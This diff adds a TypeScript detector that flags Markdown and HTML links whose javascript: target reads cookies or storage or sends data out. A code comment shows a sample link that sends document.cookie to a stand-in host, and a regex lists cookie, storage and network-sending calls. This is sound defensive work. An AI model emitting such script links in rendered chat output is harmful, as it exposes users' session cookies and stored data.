@@ -1,0 +1,34 @@
+import type { DetectorMatch } from '../../detector.js';
+import { clip, MAX_MATCHES } from './find-phrases.js';
+import { matchesIn } from './regex-matches.js';
+
+/**
+ * Links whose target is script (`[here](javascript:fetch('https://x/?c='+document.cookie))`):
+ * a chat client that renders the Markdown runs it on a click, with the page's cookies and
+ * storage in reach. Flagged when the script reads that data or sends anything out.
+ */
+
+/** A Markdown target runs to the `)` that closes the link: one followed by a space, punctuation or the end. */
+const MARKDOWN_SCRIPT = /\]\(\s*<?(javascript:[^\n]{1,1000}?)(?=\)\s*(?:$|[\s.,;:!?]))/gi;
+/** An HTML target runs to the quote that opened the attribute. */
+const HREF_SCRIPT = /\bhref\s*=\s*(["'])\s*(javascript:[^\n]{1,1000}?)\1/gi;
+const READS_OR_SENDS =
+  /document\.cookie|localStorage|sessionStorage|indexedDB|fetch\s*\(|XMLHttpRequest|sendBeacon|new\s+Image\b|(?:window\.|document\.)?location(?:\.href)?\s*=|\.src\s*=/i;
+
+export function findScriptLinks(text: string): DetectorMatch[] {
+  const found: DetectorMatch[] = [];
+  const add = (target: string, start: number) => {
+    if (found.length < MAX_MATCHES && READS_OR_SENDS.test(target)) {
+      found.push({ start, end: start + target.length, detail: `script link: "${clip(target)}"` });
+    }
+  };
+  for (const m of matchesIn(MARKDOWN_SCRIPT, text)) {
+    const target = m[1] ?? '';
+    add(target, m.index + m[0].length - target.length);
+  }
+  for (const m of matchesIn(HREF_SCRIPT, text)) {
+    const target = m[2] ?? '';
+    add(target, m.index + m[0].length - 1 - target.length);
+  }
+  return found.sort((a, b) => a.start - b.start);
+}
